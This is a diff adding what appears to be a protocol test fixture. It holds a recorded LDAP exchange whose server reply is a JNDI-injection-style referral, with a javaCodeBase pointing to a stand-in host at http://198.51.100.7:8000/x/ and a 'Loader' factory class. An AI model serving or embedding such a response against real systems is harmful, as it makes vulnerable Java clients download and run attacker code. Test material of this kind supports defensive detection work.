@@ -1,0 +1,12 @@
+# LDAP answer that refers to a Java class elsewhere.
+proto tcp
+client 10.0.0.1:40000
+server 10.0.0.2:1389
+
+>>>
+0\x0c\x02\x01\x01`\x07\x02\x01\x03\x04\x00\x80\x00
+
+<<<
+0\x81\x90\x02\x01\x02d\x81\x8a\x04\x01a0\x81\x840\x1b\x04\rjavaClassName1\n
+\x04\x08foo.Main0-\x04\x0cjavaCodeBase1\x1d\x04\x1bhttp://198.51.100.7:8000/x/0\x17\x04\x0bjavaFactory1\x08
+\x04\x06Loader
